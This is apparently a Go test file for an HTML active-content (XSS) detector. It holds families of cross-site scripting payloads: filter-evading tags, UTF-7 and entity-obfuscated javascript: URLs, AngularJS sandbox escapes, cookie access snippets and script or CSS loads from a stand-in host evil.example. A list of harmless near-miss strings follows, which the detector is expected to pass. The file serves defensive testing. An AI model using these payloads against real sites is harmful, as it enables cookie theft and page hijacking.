package active_test

import (
	"strings"
	"testing"

	"github.com/fumehood/fumehood/internal/active"
)

// families are payloads that need another reading than a browser's: as a filter leaves them, as
// an old browser or a library of templates takes them, in the charset that somebody assumes.
var families = map[string][]string{
	"plus": {`<td+background="javascript:x(1)">`, `"><img+src=y+onerror=x(1)>`, `<?import+implementation=`, `<applet+code=y`},
	"filler": {`<scr<!-- a -->ipt>x(1)</scr<!-- a -->ipt>`, `<scr/* a */ipt>x(1)`, `<![CDATA[<]]>script<![CDATA[>]]>x(1)`, `<a href="java<!-- -->script:x(1)">`,
		`<!script>x(1)`, `<scr&#9;ipt>x(1)`, `<:script`, "<\\timg src=y onerror=x(1)>", "< svg onload=x(1)>"},
	"spaced":  {`<img src=" j a v a s c r i p t : x ( 1 ) ">`, `j a v a s c r i p t : a l e r t ( 1 )`, `- m o z - b i n d i n g : u r l ( y )`, `<a n i m a t e x`, `<p a r a m x`},
	"endless": {`<!--`, `a <!-- b`, `<![CDATA[`, `<plaintext>`},
	"charset": {`+ADw-b+AD4-`, `+ADwAYg-y+AD4-`, `<br+AD4-`, "\u00bcb\u00bey\u00bc/b\u00be", `data:;charset=utf-7,y`, "\xbcscript\xbex(1)"},
	"cut": {`<button formaction=`, `<a xlink:href=`, `<meta charset=`, `<meta http-equiv="refresh"`, `<base target='`, `<set attributename=onclick`, `<math`, `<a href="javascript`, `<iframe src=data:text/html`,
		`"onnewevent=`, `' onnewevent =`, `"y" onnewevent="z"`, `"formaction=`, ` onnewevent(=y`, `<importyimplementation=`},
	"element": {`<param name=movie value=//evil.example/a.swf>`, `<object codebase=//evil.example>`, `<link href=//evil.example/a>`, `<link rel=preload as=script href=//evil.example/a.js>`, `<frame src=//evil.example>`,
		`<svg><use href="https://evil.example/a.svg#b">`, `<meta http-equiv=content-security-policy content="x">`, `<t:set attributeName=innerHTML to=y>`, `<b xmlns:t="urn:schemas-microsoft-com:time">`, `<iframe name="alert(1)" src=/a>`,
		`<?xml-stylesheet type="text/xsl" href="/a.xsl"?>`, `<ifRAme src=/a>`, `<ScRiPt/`, `<a href=jaVaScRiPt:>`, `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
		"![a'\"`onerror=x(1)](b)", `<a href="&#38;#106;avascript:x(1)">`},
	"library": {`<p ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'>`, "<p @[_b.constructor`alert(1)`()]>", `<div ng-include="'//evil.example/a'">`},
	"url":     {`&#106;avascript:x`, `javascript&colon;x`, "java\nscript:x", `<a href=java&#9script:x(1)>`, `<a href="&#1javascript:x(1)">`, `<a href="java&#1script&#9:x(1)">`, `<img src= onfocus="x('y')">`, `javascript:name`, `vbs:msgbox(1)`, `data:,alert(1)`, `data:;base64,YWxlcnQoMSk=`, ` data: , <b>`},
	"code": {`alert.call(null,1)`, `confirm.apply(0,[1])`, `(document.domain)`, `..(document.cookie)..`, `(document)["cookie"]`, `(document /* y */)["cookie"]`, `this['document']`, `document . write(1)`, `a.parentNode.removeChild(b)`, `$.getScript('/a.js')`,
		`console.log(1)`, `import a from '//evil.example/a.js'`, `import '//evil.example/a.js'`, `importScripts('/a.js')`, `'a'instanceof{[Symbol.hasInstance]:b}`,
		`";a.b=c`, `');a.b=c//`, `"+a[b]=c//`, `"}a.b=c`},
	"signs": {`!![]`, `!+[]`, `[+!![]]`, `$=~[];`, `$$$=([]+{})[5]`, `_=[]|[]`, `(![]+"")[1]`},
}

func TestFamilies(t *testing.T) {
	t.Parallel()
	for family, list := range families {
		for _, payload := range list {
			if why, runs := active.HTML(payload); !runs || why == "" {
				t.Errorf("%s: %q does nothing (%q)", family, payload, why)
			}
			if !active.Could(payload) {
				t.Errorf("%s: %q could do nothing", family, payload)
			}
		}
	}
}

// near are harmless texts near to those of families.
var near = []string{
	"List<A+B> x = a<b+c;", "a<b+c && d>e=f", "1 <!-- a --> 2", "a <b>c</b><!-- d --> e", "<!-- a -->\n<p>b</p>", "/* a */ b <c> /* d */", "if a < form (b)", "x <- y; z < object", "cat < input.txt (a)",
	"W A R N I N G ! T h i s is loud: (a)", "A B C D E F G H I J: (x)", "a = b ( c ) + d : e", "x <b>+ADw</b>", "C++AD4 (x)", "\u00bc cup, \u00be/4 (x)", "\u00bcb\u00be",
	`<link rel="icon" href="/a.png">`, `<link rel="canonical" href="https://example.org/">`, `<link itemprop="url" href="https://example.org/">`, `<meta name="viewport" content="width=1">`, `<param name="width" value="3">`,
	`<svg><use href="#a"></svg>`, `<svg><use xlink:href="/icons.svg#a"></svg>`, `<TextArea rows=3>`, `<img src=once=twice alt="a &#9 b">`, `<b&#9;c>`, `<iFrame src="/a"></iFrame>`, `<Table><TR><TD>a</TD></TR></Table>`, `<Button>a</Button>`,
	`<style>a[href^="http"]{color:red}</style>`, `<html xmlns:v="urn:schemas-microsoft-com:vml">`, `<p :[key]="value">`, `<p (click)="show()">`,
	"JavaScript:ES2020", "Javascript: the (good) parts", "javascript:S1234", "data: 1, 2 (a)", "Data:, see (a)", "vbs: a script (b)", "Java\nScript: a, b (c)", "JavaScript: closures (advanced)", "JavaScript: closures, promises (draft)",
	"!![](a.png)", "[![](a.png)](b)", "![] (a)", "a[]+b[]", "x = [] + y (z)", "- [ ] a!\n- [x] b", "{}+", "regexp [a-z]+[0-9]+ (x)", "sum(x, [])",
	"document.cookie", "window.location", "document.cookie.", "see (document) and (window)", "I set document.domain; it works", "console.log is a function (x)", "call.apply(x)", "use the bind() call",
	"import os; x('//a')", "import a from './b'", "import java.util.*; // a", "important: '//a' (b)", "important//'a'",
	`"a"; b = c`, `"quoted" and x.y = z (a)`, `' = 3 ft`, `" (approx)`, `"once = twice"`, `"a" once = "b"`, `'tis = x`,
}

func TestNearFamiliesPasses(t *testing.T) {
	t.Parallel()
	for _, text := range near {
		if why, runs := active.HTML(text); runs {
			t.Errorf("%q: %s", text, why)
		}
	}
	for _, text := range harmless {
		if why, runs := active.HTML(strings.ReplaceAll(text, "\n", " ")); runs && !strings.Contains(text, "document") {
			t.Errorf("%q on one line: %s", text, why)
		}
	}
}
